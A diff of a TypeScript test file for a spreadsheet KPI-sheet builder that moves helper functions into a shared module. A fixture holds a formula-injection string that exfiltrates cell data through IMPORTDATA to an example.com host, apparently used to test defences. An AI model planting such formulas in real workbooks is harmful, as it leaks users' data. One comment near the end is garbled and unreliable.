@@ -2,6 +2,7 @@ import { total } from '../../../local/host/counts';
 import { type Host, type HostTab, openHost } from '../../../local/host/host';
 import { isFormula } from '../../../local/workbook/cell';
 import type { Envelope } from '../../../src/sheet/envelope';
+import { kpiRow, shown, type } from '../../schedule/scheduled-host';
 
 /** A formula that would send cells elsewhere, as the name of a rep. */
 const EVIL = '=IMPORTDATA("https://example.com/"&B2)';
@@ -38,33 +39,6 @@ function build(host: Host, request: object = { plan, asOf: '2017-05-17' }): Enve
   return answer;
 }
 
-/** What the cells of a tab show, calculated. */
-function shown(host: Host, name: string): unknown[][] {
-  const sheet = host.workbook.sheetByName(name);
-  if (!sheet) throw new Error(`no tab ${name}`);
-  const { rows, columns } = host.workbook.extent(sheet);
-  return Array.from({ length: rows }, (_, row) =>
-    Array.from({ length: columns }, (_, column) => host.workbook.read(sheet, row, column).value ?? ''),
-  );
-}
-
-/** A KPI's row on the KPI sheet by header. */
-function kpiRow(host: Host, title: string, name = 'KPIs'): Record<string, unknown> {
-  const rows = shown(host, name);
-  const header = rows.find((row) => row[0] === 'KPI') as string[];
-  const row = rows.find((cells) => cells[0] === title) as unknown[];
-  return Object.fromEntries(header.map((text, index) => [text, row[index]]));
-}
-
-function edit(host: Host, title: string, header: string, value: string | number): void {
-  const rows = shown(host, 'KPIs');
-  const sheet = host.workbook.sheetByName('KPIs');
-  if (!sheet) throw new Error('no KPI sheet');
-  const row = rows.findIndex((cells) => cells[0] === title);
-  const column = (rows.find((cells) => cells[0] === 'KPI') as unknown[]).indexOf(header);
-  host.workbook.put(sheet, row, column, value);
-}
-
 describe('buildKpiSheet, as built', () => {
   test('makes the KPI sheet, the plan tab and the tab per rep, and leaves raw tabs as they were', () => {
     const host = open();
@@ -93,7 +67,7 @@ describe('buildKpiSheet, as built', () => {
     build(host);
     const { Actual, Status } = kpiRow(host, 'Revenue');
     expect(Status).not.toBe('ahead');
-    edit(host, 'Revenue', 'Target', 10);
+    type(host, 'Revenue', 'Target', 10);
     expect(kpiRow(host, 'Revenue')).toMatchObject({ Attainment: (Actual as number) / 10, Status: 'on track' });
   });
 
@@ -181,7 +155,7 @@ describe('buildKpiSheet, as built', () => {
     // that the plan tab is a form seven: what words of answers mean lies in a closed column. Large titles and no lines between
     // the cells are two for each of three tabs, rows of one height with all in the middle of them two.
     expect(others()).toBeLessThanOrEqual(77);
-    edit(host, 'Revenue', 'Owner', 'carla@example.com');
+    type(host, 'Revenue', 'Owner', 'carla@example.com');
     host.resetCounts();
     build(host, {});
     // The remark stands between two columns that people type in, where it is seen: it is written by itself
